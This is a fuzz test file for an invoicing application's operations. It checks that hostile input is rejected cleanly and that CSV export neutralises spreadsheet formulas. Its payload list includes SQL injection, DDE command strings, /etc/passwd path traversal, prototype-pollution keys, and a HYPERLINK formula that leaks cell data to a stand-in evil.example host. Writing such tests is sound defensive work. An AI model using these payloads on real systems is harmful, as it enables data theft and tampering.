import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import type { Core } from '#core/app';
import { agingToCsv } from '#core/cli/output';
import { operations } from '#shared/contract/index';
import { freshCore, snapshot } from '../../support/core';
import { SAMPLES, setupBook, type Ids } from './samples';

/**
 * Hostile input against every contract operation: random JSON, huge strings, deep nesting, SQL and
 * formula injection, odd numbers, in the right fields (starting from a valid input) and anywhere.
 * Every call must resolve to {ok:true} or {ok:false} with an expected code (never throw, never
 * 'internal'), and a failed call must leave every table exactly as it was. (test/core/contract.test.ts
 * has the lighter schema fuzz; this one aims past the schemas into the handlers.)
 */
const EXPECTED_CODES = new Set(['validation', 'not_found', 'conflict', 'invalid_state']);
const RUNS_PER_OP = 20;

function nest(depth: number): unknown {
  let v: unknown = 'bottom';
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
}

const HOSTILE_STRINGS = [
  "'; DROP TABLE clients; --",
  "1' OR '1'='1",
  '" OR ""="',
  "Robert'); DELETE FROM audit_log WHERE ('1'='1",
  '1; UPDATE invoices SET open_amount = 0',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\u0000\u0001\u001f',
  '\ud800 lone surrogate',
  '\u202Eevil\u202C',
  '../../../../etc/passwd',
  '/etc/passwd',
  '%s%s%n',
  '${7*7}{{7*7}}',
  '<script>alert(1)</script>',
  '\\N',
  '',
  ' ',
  'A'.repeat(100_000),
  '=' + 'B'.repeat(99_999),
];

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    ...HOSTILE_STRINGS,
    nest(5_000),
    null,
    undefined,
    true,
    -1,
    0,
    -0,
    0.5,
    1e308,
    -1e308,
    NaN,
    Infinity,
    2 ** 53 + 1,
    Number.MAX_SAFE_INTEGER,
    [],
    {},
  ),
  fc.string({ maxLength: 50 }).map((s) => `x${s}`), // never a bare path like "/": backups.setFolder would accept it
  fc.integer(),
  fc.double(),
  fc.jsonValue({ maxDepth: 3 }),
  fc.array(fc.record({ invoiceId: fc.integer(), amount: fc.integer() }), { maxLength: 5 }),
);

/** Starts from the op's valid sample and replaces, drops or adds fields with hostile values. */
function shaped(sample: Record<string, unknown>): fc.Arbitrary<unknown> {
  const keys = Object.keys(sample);
  const fields = Object.fromEntries(keys.map((k) => [k, fc.oneof(fc.constant(sample[k]), hostileValue)]));
  return fc
    .tuple(fc.record(fields, { requiredKeys: [] }), fc.option(fc.tuple(fc.constantFrom('__proto__', 'constructor', 'extra', 'id'), hostileValue)))
    .map(([rec, extra]) => {
      const out: Record<string, unknown> = { ...rec };
      if (extra) Object.defineProperty(out, extra[0], { value: extra[1], enumerable: true, configurable: true, writable: true });
      return out;
    });
}

let core: Core;
let ids: Ids;

beforeAll(async () => {
  core = await freshCore();
  ids = await setupBook(core);
});
afterAll(async () => {
  await core.close();
});

describe('hostile input to every operation', () => {
  it.each(operations.map((o) => [o.name, o.writes] as const))('%s', async (name) => {
    const sample = SAMPLES[name];
    expect(sample, `no sample input for ${name} in test/core/safety/samples.ts`).toBeDefined();
    const valid = sample!.input(ids);
    const input = fc.oneof(
      { weight: 3, arbitrary: shaped(valid as Record<string, unknown>) },
      { weight: 1, arbitrary: fc.anything({ maxDepth: 4 }) },
      { weight: 1, arbitrary: hostileValue },
    );
    await fc.assert(
      fc.asyncProperty(input, async (value) => {
        const before = snapshot(core);
        let r: Awaited<ReturnType<Core['dispatch']>>;
        try {
          r = await core.dispatch(name, value);
        } catch (e) {
          throw new Error(`${name} threw: ${String(e).slice(0, 300)}`);
        }
        if (r.ok) return; // a write that succeeded may change data; the next run starts from here
        expect(EXPECTED_CODES.has(r.error.code), `${name} → ${r.error.code}: ${r.error.message.slice(0, 300)}`).toBe(true);
        expect(typeof r.error.message).toBe('string');
        expect(snapshot(core), `${name} failed but changed data`).toEqual(before);
      }),
      { numRuns: RUNS_PER_OP },
    );
  });

  it('unknown and hostile method names', async () => {
    for (const m of [undefined, null, 42, {}, '__proto__', 'constructor', 'toString', 'clients.create ', 'x'.repeat(100_000)]) {
      const r = await core.dispatch(m, {});
      expect(r.ok ? 'ok' : r.error.code).toBe('unknown_method');
      expect(r.ok ? 0 : r.error.message.length).toBeLessThan(300);
    }
  });

  it('a formula stored as a client name comes out neutralised in the aging CSV', async () => {
    const evil = '=HYPERLINK("http://evil.example","Pay here")';
    const c = await core.call('clients.create', { code: 'EVIL', name: evil });
    await core.call('invoices.create', { clientId: c.id, number: 'E-1', issueDate: '2026-09-01', currency: 'PEN', amount: 1_000 });
    const csv = agingToCsv(await core.call('aging.report', { asOf: '2026-11-20' }));
    const line = csv.split('\n').find((l) => l.startsWith('EVIL,'))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example"",""Pay here"")"`);
    for (const cell of csv.split(/[,\n]/)) expect(cell).not.toMatch(/^[=+@]|^-[^0-9]/);
  });
});
